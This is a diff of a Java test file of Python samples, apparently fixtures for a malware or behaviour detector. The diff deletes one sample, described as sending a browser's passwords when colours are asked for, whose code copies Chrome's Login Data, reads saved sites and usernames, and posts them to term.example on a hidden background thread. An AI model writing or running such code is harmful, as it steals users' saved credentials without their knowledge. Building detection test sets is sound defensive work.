@@ -235,28 +235,6 @@ final class PythonWhenCalled {
             """));
   }
 
-  /** What a program for its owner may do as well. */
-  static List<Sample> doubtful() {
-    return List.of(
-        Sample.imported(
-            "passwords of a browser are sent when colours are asked for",
-            """
-            import json, os, shutil, sqlite3, threading
-            from urllib.request import Request, urlopen
-            ROOT = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data')
-            def rows():
-                shutil.copy2(os.path.join(ROOT, 'Default', 'Login Data'), 'c.db')
-                with sqlite3.connect('c.db') as c:
-                    return c.execute('SELECT origin_url, username_value FROM logins').fetchall()
-            def enable():
-                body = json.dumps(rows()).encode()
-                urlopen(Request('https://term.example/log', body, {'Content-Type': 'application/json'}))
-            def init():
-                if os.name == 'nt':
-                    threading.Thread(target=enable, daemon=True).start()
-            """));
-  }
-
   static List<Sample> lookAlikes() {
     return List.of(
         Sample.imported(
